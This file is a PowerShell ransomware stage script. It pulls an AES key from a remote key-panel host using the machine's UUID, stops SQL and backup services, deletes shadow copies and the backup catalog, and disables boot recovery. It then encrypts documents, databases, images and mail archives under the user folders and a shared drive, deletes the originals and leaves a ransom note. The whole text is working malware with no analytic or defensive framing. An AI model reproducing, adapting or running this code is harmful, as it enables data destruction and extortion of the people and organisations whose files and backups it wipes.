# stage 3 - prepare host
$ErrorActionPreference = 'Stop'
$id = (Get-CimInstance Win32_ComputerSystemProduct).UUID
$resp = Invoke-RestMethod -Uri "http://keys.lockbox-panel.invalid/api/k?id=$id" -Method Get
$key = [Convert]::FromBase64String($resp.k)
$iv  = [Convert]::FromBase64String($resp.iv)

$ErrorActionPreference = 'SilentlyContinue'
Get-Service -Name 'MSSQL*','veeam*','Backup*','sql*' | Stop-Service -Force
cmd.exe /c "vssadmin.exe delete shadows /all /quiet"
Get-CimInstance Win32_ShadowCopy | Remove-CimInstance
cmd.exe /c "wbadmin delete catalog -quiet"
cmd.exe /c "bcdedit /set {default} recoveryenabled No"
cmd.exe /c "bcdedit /set {default} bootstatuspolicy ignoreallfailures"

$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = $key; $aes.IV = $iv
$exts = '*.docx','*.xlsx','*.pdf','*.jpg','*.sql','*.bak','*.pst'
$roots = @("$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop", 'D:\Shares')
foreach ($r in $roots) {
  Get-ChildItem -Path $r -Include $exts -Recurse -File | ForEach-Object {
    $plain = [IO.File]::ReadAllBytes($_.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
    [IO.File]::WriteAllBytes($_.FullName + '.lockbox', $enc)
    Remove-Item $_.FullName -Force
  }
}
$note = "Your files are encrypted. Contact recover@lockbox-mail.invalid with ID $id"
Set-Content -Path "$env:USERPROFILE\Desktop\README_LOCKBOX.txt" -Value $note
